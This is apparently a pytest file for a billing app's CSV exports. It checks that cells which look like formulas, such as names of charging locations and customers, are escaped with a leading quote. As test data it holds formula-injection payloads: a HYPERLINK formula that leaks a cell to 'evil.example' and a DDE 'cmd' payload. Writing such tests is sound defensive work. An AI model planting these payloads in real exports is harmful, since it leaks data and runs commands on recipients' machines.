"""CSV formula injection: a partner's location name or a customer's name that a spreadsheet would run as a
formula comes out of every CSV we hand to people as inert text (issue 12, item 12)."""

from __future__ import annotations

import csv
import io

from app.charging.models import Cdr
from app.csv_export import csv_writer, safe_cell
from app.extensions import db
from tests.billing.sessions import rated_session
from tests.billing.test_finance_backoffice import OCT, _cli_run, _csv, _driver, _finance
from tests.factories import login

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Gent Zuid")'


def test_formula_cells_are_neutralised_and_numbers_stay_numbers():
    for hostile in ("=1+2", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1"):
        assert safe_cell(hostile) == "'" + hostile
    for number in ("-1.21", "+3", "-0,5", "12", "1e3", "-2E-3"):
        assert safe_cell(number) == number
    for untouched in ("Gent Zuid", "a=b", "", None, -5, 3.5):
        assert safe_cell(untouched) == untouched
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["=1+2", "-1.21", "plain"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+2", "-1.21", "plain"]


def test_the_drivers_session_export_neutralises_a_cpos_location_name(app, client):
    driver, card = _driver(full_name="Mia Mine")
    charge = rated_session(driver.account.id, card.id, OCT)
    cdr = db.session.get(Cdr, charge.cdr_id)
    cdr.data = {**cdr.data, "cdr_location": {**cdr.data["cdr_location"], "name": HOSTILE}}
    db.session.flush()
    login(client, driver)

    response = client.get("/sessions.csv")
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert row["Location"] == "'" + HOSTILE
    assert row["Total incl. VAT"][0].isdigit()  # amounts are still numbers


def test_finance_exports_neutralise_a_customers_name(app, client):
    driver, card = _driver(full_name="=cmd|' /C calc'!A0")
    rated_session(driver.account.id, card.id, OCT)
    _cli_run(app)
    _finance(client)

    [row] = _csv(client.get("/backoffice/finance/exports/invoices.csv", query_string={"period": "2026-10"}))
    assert row["buyer_name"] == "'=cmd|' /C calc'!A0"
